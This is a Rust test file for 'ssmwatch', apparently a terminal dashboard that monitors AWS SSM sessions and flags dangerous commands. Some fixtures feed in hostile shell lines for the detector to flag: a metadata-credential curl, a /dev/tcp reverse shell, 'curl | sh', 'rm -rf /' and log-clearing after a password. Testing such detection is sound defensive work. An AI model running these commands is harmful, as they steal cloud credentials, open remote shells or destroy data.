//! Styled snapshots at three sizes: what is on the screen, and in which colors.

use crossterm::event::KeyCode;
use ratatui::style::Modifier;
use ssmwatch::{
    app::{State, view::Focus},
    domain::{ActOutcome, LogEvent, NoLiveTail, Observation, Session, SessionStatus, TailMode},
    ui::theme::{Glyphs, MONO},
};

use crate::{
    dump::{drawn, styled, text},
    world,
};

pub const SIZES: [(u16, u16); 3] = [(80, 24), (120, 40), (200, 60)];

pub fn at_all_sizes(name: &str, build: impl Fn((u16, u16)) -> State) {
    for size in SIZES {
        let state = build(size);
        let buffer = drawn(&state, "default-dark", &Glyphs::UTF8);
        insta::assert_snapshot!(format!("{name}_{}x{}", size.0, size.1), styled(&buffer));
    }
}

/// A session's details and transcript, opened.
pub fn opened(size: (u16, u16)) -> State {
    let mut state = world::bad_day(size);
    world::select(&mut state, "jane.doe-0a1b2c3d4e5f60718");
    world::press(&mut state, KeyCode::Enter);
    if state.view.transcript.is_none() {
        world::press(&mut state, KeyCode::Tab);
    }
    world::print(&mut state, world::SHELL);
    world::settle(&mut state);
    state
}

/// A termination that waits for its `y`.
fn confirming(size: (u16, u16)) -> State {
    let mut state = world::bad_day(size);
    world::select(&mut state, "mallory-0c4b7f1e2d3a49d18");
    world::press(&mut state, KeyCode::Char('t'));
    world::type_text(&mut state, "INC-2301 tunnel");
    world::press(&mut state, KeyCode::Enter);
    state
}

fn on_screen(key: char) -> impl Fn((u16, u16)) -> State {
    move |size| {
        let mut state = world::bad_day(size);
        world::press(&mut state, KeyCode::Char(key));
        state
    }
}

#[test]
fn sessions() {
    at_all_sizes("sessions", world::bad_day);
}

#[test]
fn calm_morning() {
    at_all_sizes("calm", world::calm);
}

#[test]
fn opened_session() {
    at_all_sizes("opened", opened);
}

#[test]
fn details_alone() {
    let mut state = world::bad_day((80, 24));
    world::press(&mut state, KeyCode::Enter);
    insta::assert_snapshot!("details_80x24", styled(&drawn(&state, "default-dark", &Glyphs::UTF8)));
}

#[test]
fn confirmation() {
    at_all_sizes("confirm", confirming);
}

#[test]
fn reason_and_its_complaint() {
    let mut state = world::bad_day((80, 24));
    world::press(&mut state, KeyCode::Char('a'));
    world::press(&mut state, KeyCode::Enter);
    insta::assert_snapshot!("alert_80x24", styled(&drawn(&state, "default-dark", &Glyphs::UTF8)));
}

#[test]
fn scopes() {
    at_all_sizes("scopes", |size| {
        let mut state = on_screen('5')(size);
        (0..16).for_each(|_| world::press(&mut state, KeyCode::Char('j')));
        state
    });
}

#[test]
fn history() {
    at_all_sizes("history", on_screen('4'));
}

#[test]
fn preferences() {
    at_all_sizes("preferences", on_screen('3'));
}

/// The rule sheet of a session's worst finding.
fn rule_sheet(size: (u16, u16)) -> State {
    let mut state = world::bad_day(size);
    world::select(&mut state, "mallory-0c4b7f1e2d3a49d18");
    world::press(&mut state, KeyCode::Enter);
    world::press(&mut state, KeyCode::Enter);
    state
}

#[test]
fn the_calm_morning_is_all_known() {
    let state = world::calm((120, 40));
    for session in state.board.sessions.values() {
        assert_eq!(session.judgement.findings, [], "{}", session.session.key.id);
    }
}

#[test]
fn rule_sheets() {
    at_all_sizes("rule", rule_sheet);
}

#[test]
fn findings_are_led_through_and_the_sheet_closes() {
    let mut state = rule_sheet((120, 40));
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("Rule ") && words.contains("What decided") && words.contains("finding 1 of"), "{words}");
    world::press(&mut state, KeyCode::Char('n'));
    assert!(text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("finding 2 of"));
    world::press(&mut state, KeyCode::Char('N'));
    assert!(text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("finding 1 of"));
    world::press(&mut state, KeyCode::Char('t'));
    assert!(state.view.dialog.is_none(), "nothing opens over a sheet that hides what it would act on");
    world::press(&mut state, KeyCode::Esc);
    assert!(state.view.sheet.is_none() && state.view.opened, "only the sheet closes");
}

#[test]
fn rules_that_could_not_be_reloaded_are_loud_until_they_are() {
    let mut state = world::calm((120, 40));
    let at = state.now;
    let problem = "policies/mine.cedar:12:5: unknown fact \"colour\"";
    ssmwatch::app::update(&mut state, ssmwatch::app::Message::Rules(Err(problem.into())), at);
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("the old ones stay in force: policies/mine.cedar:12:5"), "{words}");
    let engine = state.board.engine.clone();
    ssmwatch::app::update(&mut state, ssmwatch::app::Message::Rules(Ok(engine)), at);
    assert!(!text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("RULES NOT RELOADED"));
}

#[test]
fn an_account_over_the_threshold_is_a_banner() {
    for size in SIZES {
        let mut state = world::calm(size);
        let at = state.now;
        (0..10).for_each(|_| state.board.note_terminated(&"111122223333".into(), at));
        world::settle(&mut state);
        let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
        assert!(words.contains("CRITICAL THR-01 payments-prod 111122223333"), "{words}");
        assert!(words.contains("accounts 1C") && !words.contains("ALL WELL"), "{words}");
    }
}

#[test]
fn acts() {
    at_all_sizes("acts", |size| {
        let mut state = confirming(size);
        world::press_after(&mut state, KeyCode::Char('y'), 400);
        let act = state.acts.last().unwrap().id;
        let outcome = ActOutcome::Failed {
            what: "still active after 10 s".to_owned(),
            to_do: "press t to try once more; check ssm:TerminateSession on the session".to_owned(),
        };
        let at = state.now;
        ssmwatch::app::update(&mut state, ssmwatch::app::Message::ActProgress { act, step: 0, outcome }, at);
        world::press_after(&mut state, KeyCode::Char('a'), 900);
        world::type_text(&mut state, "call the owner");
        world::press(&mut state, KeyCode::Enter);
        let act = state.acts.last().unwrap().id;
        let outcome = ActOutcome::Done { took_ms: 340, proof: "message id 7f3a".to_owned() };
        let at = state.now;
        ssmwatch::app::update(&mut state, ssmwatch::app::Message::ActProgress { act, step: 0, outcome }, at);
        world::press_after(&mut state, KeyCode::Char('6'), 900);
        state
    });
}

#[test]
fn help() {
    at_all_sizes("help", on_screen('?'));
}

#[test]
fn empty() {
    at_all_sizes("empty", world::empty);
}

#[test]
fn loading_and_filtered_away() {
    let loading = world::unread((80, 24), &world::scopes());
    insta::assert_snapshot!("loading_80x24", text(&drawn(&loading, "default-dark", &Glyphs::UTF8)));
    let mut filtered = world::bad_day((80, 24));
    world::press(&mut filtered, KeyCode::Char('/'));
    world::type_text(&mut filtered, "nobody");
    insta::assert_snapshot!("filtered_80x24", text(&drawn(&filtered, "default-dark", &Glyphs::UTF8)));
}

#[test]
fn a_selected_session_that_ends_stays_as_a_ghost() {
    let mut state = world::bad_day((120, 40));
    world::select(&mut state, "jane.doe-0a1b2c3d4e5f60718");
    let key = state.view.table.list.selected.clone().unwrap();
    let session = state.board.sessions[&key].session.clone();
    let now = state.now;
    let ended = Session { status: SessionStatus::Terminated, ended_at: Some(now), ..session };
    let sessions = vec![ended];
    world::observe(&mut state, Observation::History { scope: key.scope.clone(), sessions, since: now, at: now }, now);
    let buffer = drawn(&state, "default-dark", &Glyphs::UTF8);
    let words = text(&buffer);
    assert!(words.contains("NON_COMPL ended") && words.contains("ended (Terminated)"), "{words}");
    let struck = buffer.content().iter().filter(|cell| cell.modifier.contains(Modifier::CROSSED_OUT)).count();
    assert!(struck > 20, "the row is not struck out");
    world::press(&mut state, KeyCode::Char('j'));
    assert!(!text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("ended (Terminated)"), "left, it goes");
}

#[test]
fn what_is_not_seen_now_does_not_look_good() {
    for size in [(60, 20), (80, 24), (120, 40), (200, 60)] {
        let mut state = world::calm(size);
        assert!(text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("ALL WELL"));
        let later = state.now + jiff::SignedDuration::from_secs(45);
        ssmwatch::app::update(&mut state, ssmwatch::app::Message::Tick, later);
        let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
        assert!(!words.contains("ALL WELL") && !words.contains("✓  COMPLIANT"), "{words}");
        assert!(words.contains("?  STALE") && words.contains("BLIND: 18 of 18"), "{words}");
        assert!(words.contains("12 active (12 unseen)") || words.contains("12 active (12 not seen now)"), "{words}");
        world::press(&mut state, KeyCode::Enter);
        let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
        assert!(words.contains("not seen now: what stands here"), "{words}");
    }
}

#[test]
fn stale() {
    at_all_sizes("stale", |size| {
        let mut state = world::bad_day(size);
        let later = state.now + jiff::SignedDuration::from_secs(45);
        ssmwatch::app::update(&mut state, ssmwatch::app::Message::Tick, later);
        state
    });
}

#[test]
fn an_ended_session_has_an_ended_transcript() {
    let mut state = opened((120, 40));
    let key = state.view.table.list.selected.clone().unwrap();
    let session = state.board.sessions[&key].session.clone();
    let now = state.now;
    let ended = Session { status: SessionStatus::Terminated, ended_at: Some(now), ..session };
    let seen = Observation::History { scope: key.scope.clone(), sessions: vec![ended], since: now, at: now };
    world::observe(&mut state, seen, now);
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("ended, reading the rest") && !words.contains(", read "), "{words}");
    assert!(words.contains("at the end") && !words.contains("following"), "{words}");
    let later = now + jiff::SignedDuration::from_secs(61);
    let nothing = Observation::Transcript { session: key, events: Vec::new(), at: later };
    world::observe(&mut state, nothing, later);
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("ended, complete"), "{words}");
}

#[test]
fn the_worst_outcome_of_an_act_comes_first() {
    for size in SIZES {
        let mut state = world::bad_day(size);
        world::press(&mut state, KeyCode::Char('a'));
        world::type_text(&mut state, "call the owner");
        world::press(&mut state, KeyCode::Enter);
        let act = state.acts.last().unwrap().id;
        let mut tell = |step: usize, outcome: ActOutcome| {
            let at = state.now;
            ssmwatch::app::update(&mut state, ssmwatch::app::Message::ActProgress { act, step, outcome }, at);
        };
        let (what, to_do) = ("no answer".to_owned(), "look".to_owned());
        tell(0, ActOutcome::Done { took_ms: 340, proof: "message id 7f3a".to_owned() });
        tell(2, ActOutcome::Unproven { what: what.clone(), to_do: to_do.clone() });
        tell(1, ActOutcome::Failed { what, to_do });
        world::press_after(&mut state, KeyCode::Char('6'), 900);
        let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
        assert!(words.contains("✗ 1 of 3 FAILED: central"), "{words}");
        assert!(words.contains("? metrics unproven"), "{words}");
    }
}

#[test]
fn the_filter_of_the_history_is_on_the_screen() {
    let mut state = world::bad_day((120, 40));
    world::press(&mut state, KeyCode::Char('4'));
    world::press(&mut state, KeyCode::Char('/'));
    world::type_text(&mut state, "sshsession");
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("filter: sshsession") && words.contains("1 of 3"), "{words}");
    assert!(words.contains("1 shown, filter sshsession") && words.contains("– never"), "{words}");
    world::type_text(&mut state, "nobody");
    world::press(&mut state, KeyCode::Enter);
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("filter matches nothing: \"sshsessionnobody\""), "{words}");
}

#[test]
fn numbers_are_never_cut() {
    let whole = ["5", "18", "3", "2/18", "16/18", "73s"];
    for width in 40..=200 {
        let words = text(&drawn(&world::bad_day((width, 20)), "default-dark", &Glyphs::UTF8));
        let mut lines = words.lines();
        let (bar, counters) = (lines.next().unwrap(), lines.next().unwrap());
        assert!(bar.contains("BLIND: 2 of 18") || bar.contains("BLIND: 2/18"), "{width}: {bar}");
        assert!(bar.contains("LOOK: 5"), "{width}: {bar}");
        assert!(!bar.contains('…') && !counters.contains('…'), "{width}: {bar}\n{counters}");
        assert!(counters.starts_with(" 18 active (1 "), "{width}: {counters}");
        let numbers = counters.split_whitespace().filter(|word| word.starts_with(|c: char| c.is_ascii_digit()));
        for number in numbers {
            assert!(whole.contains(&number) || number == "1", "{width}: {number} in {counters}");
        }
    }
}

#[test]
fn the_banner_and_the_header_count_the_same_scopes() {
    for height in [16, 24, 40] {
        let mut state = world::calm((80, height));
        for scope in world::scopes().into_iter().take(7) {
            let failure = world::failure(ssmwatch::domain::FailureClass::Denied, "ssm:DescribeSessions", "no");
            state.board.scopes.get_mut(&scope).unwrap().last_good = None;
            let at = state.now;
            let failed = Observation::ListingFailed { scope, failure, retry_at: at, at };
            world::observe(&mut state, failed, at);
        }
        let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
        let named = words.lines().filter(|line| line.contains("CANNOT SEE") && line.contains("ssm:")).count();
        assert!(words.contains("BLIND: 7 of 18"), "{words}");
        assert!(words.contains(&format!("CANNOT SEE {} more scopes: press 5", 7 - named)), "{words}");
    }
}

#[test]
fn the_rest_of_a_long_line_is_one_key_away() {
    let mut state = opened((80, 24));
    let end = format!("curl -s https://example.com/{} | sh # THE END", "x".repeat(60));
    world::print(&mut state, &[&end]);
    assert!(!text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("THE END"));
    world::press(&mut state, KeyCode::Char('l'));
    world::press(&mut state, KeyCode::Char('l'));
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("| sh # THE END") && words.contains("from column 41"), "{words}");
    (0..3).for_each(|_| world::press(&mut state, KeyCode::Char('h')));
    assert!(text(&drawn(&state, "default-dark", &Glyphs::UTF8)).contains("curl -s https"));
}

#[test]
fn too_small() {
    let state = world::bad_day((30, 8));
    insta::assert_snapshot!("too_small_30x8", styled(&drawn(&state, "default-dark", &Glyphs::UTF8)));
}

#[test]
fn without_color_and_without_utf8() {
    let mut state = opened((120, 40));
    state.setup.ascii = true;
    let buffer = drawn(&state, MONO, &Glyphs::ASCII);
    insta::assert_snapshot!("ascii_120x40", styled(&buffer));
    for cell in buffer.content() {
        // What the session printed was cleaned for UTF-8 when it came; everything else is the screen's own.
        let own = cell.symbol().is_ascii() || "␛␇●".contains(cell.symbol());
        assert!(own, "{:?} is not ASCII", cell.symbol());
    }
}

/// What the tail of a log group shows of a session that is not opened.
fn hear(state: &mut State, id: &str, lines: &[&str]) {
    let key = state.board.sessions.keys().find(|key| key.id.as_str() == id).unwrap().clone();
    let at = state.now - jiff::SignedDuration::from_secs(20);
    let message = serde_json::json!({"eventVersion": "1.0", "sessionId": id, "sessionData": lines}).to_string();
    let events = vec![(key.id.clone(), vec![LogEvent { timestamp: at, ingested_at: at, message }])];
    let now = state.now;
    let heard = Observation::Tailed { scope: key.scope, log_group: "/ssm-session-logs".into(), events, at: now };
    world::observe(state, heard, now);
}

/// Dangerous commands were typed, and one was only printed.
fn detected(size: (u16, u16)) -> State {
    let mut state = world::bad_day(size);
    hear(
        &mut state,
        "ansible-0b9a8f7e6d5c4b3a2",
        &[
            "sh-5.2$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/gateway",
            "sh-5.2$ mysql -uroot -phunter2 -e 'select 1'; history -c",
        ],
    );
    hear(&mut state, "tom-0f00ba4f00ba4f00b", &["sh-5.2$ cat notes", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
    world::select(&mut state, "ansible-0b9a8f7e6d5c4b3a2");
    state
}

#[test]
fn detections_on_the_table_and_in_the_details() {
    at_all_sizes("detected", |size| {
        let mut state = detected(size);
        if size.0 < 120 {
            world::press(&mut state, KeyCode::Enter);
        }
        state
    });
    insta::assert_snapshot!("detected_table_80x24", styled(&drawn(&detected((80, 24)), "default-dark", &Glyphs::UTF8)));
}

#[test]
fn detections_in_output_are_shown_when_they_are_wanted() {
    let words = |state: &State| text(&drawn(state, "default-dark", &Glyphs::UTF8));
    let mut state = detected((200, 60));
    assert!(!words(&state).contains("CMD-16"), "{}", words(&state));
    world::press(&mut state, KeyCode::Char('o'));
    assert!(words(&state).contains("CMD-16"), "{}", words(&state));
    assert!(!words(&state).contains("hunter2"), "secrets stay hidden");
}

#[test]
fn commands_of_a_transcript() {
    at_all_sizes("commands", |size| {
        let mut state = opened(size);
        world::print(&mut state, &["sh-5.2$ rm file\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}sudo ", "sh-5.2$ rm -rf /^C"]);
        while state.view.focus != Focus::Commands {
            world::press(&mut state, KeyCode::Tab);
        }
        world::press(&mut state, KeyCode::Char('k'));
        state
    });
}

/// Four transcripts side by side, wrapped, one with a gap.
fn beside(size: (u16, u16)) -> State {
    let mut state = world::bad_day(size);
    for (id, lines) in [
        ("jane.doe-0a1b2c3d4e5f60718", world::SHELL),
        (
            "ansible-0b9a8f7e6d5c4b3a2",
            &["sh-5.2$ export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "ok"][..],
        ),
        ("li.wei-01fe23dc45ba6798a", &["sh-5.2$ vi a", "\u{1b}[?1049h\u{1b}[2J~", "\u{1b}[?1049lsh-5.2$ pwd", "/"][..]),
    ] {
        world::select(&mut state, id);
        if state.view.transcript.is_none() {
            world::press(&mut state, KeyCode::Enter);
            world::press(&mut state, KeyCode::Tab);
        }
        world::print(&mut state, lines);
        world::press(&mut state, KeyCode::Char('v'));
        world::press(&mut state, KeyCode::Esc);
    }
    let gone = Observation::TranscriptFailed {
        session: state.view.beside[1].clone(),
        failure: world::failure(ssmwatch::domain::FailureClass::Gone, "logs:GetLogEvents", "gone"),
        retry_at: state.now,
        at: state.now,
    };
    let now = state.now;
    world::observe(&mut state, gone, now);
    world::select(&mut state, "tom-0f00ba4f00ba4f00b");
    world::press(&mut state, KeyCode::Char('W'));
    if size.0 < 120 {
        world::press(&mut state, KeyCode::Enter);
        world::press(&mut state, KeyCode::Tab);
    }
    world::settle(&mut state);
    state
}

#[test]
fn transcripts_side_by_side() {
    at_all_sizes("beside", beside);
}

#[test]
fn playing_back() {
    at_all_sizes("playing", |size| {
        let mut state = opened(size);
        while state.view.focus != Focus::Transcript {
            world::press(&mut state, KeyCode::Tab);
        }
        world::press(&mut state, KeyCode::Char('R'));
        world::press(&mut state, KeyCode::Char('+'));
        world::press(&mut state, KeyCode::Char(']'));
        world::press(&mut state, KeyCode::Char(' '));
        state
    });
}

#[test]
fn how_log_groups_are_read_stands_with_their_scopes() {
    let mut state = on_screen('5')((200, 60));
    let scope = state.view.scopes.selected.clone().unwrap();
    let now = state.now;
    let why = || world::failure(ssmwatch::domain::FailureClass::Denied, "logs:StartLiveTail", "no");
    let mode = TailMode::Polling { why: NoLiveTail::Failed(why()) };
    let group = || std::sync::Arc::from("/ssm-session-logs");
    world::observe(&mut state, Observation::TailMode { scope: scope.clone(), log_group: group(), mode }, now);
    let from = now - jiff::SignedDuration::from_mins(3);
    let gap = Observation::TailGap { scope, log_group: group(), from, until: Some(now), filled: false, why: why() };
    world::observe(&mut state, gap, now);
    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
    assert!(words.contains("/ssm-session-logs: polled: denied: logs:StartLiveTail"), "{words}");
    assert!(words.contains("was not read from ") && words.contains("may not have been detected"), "{words}");
}
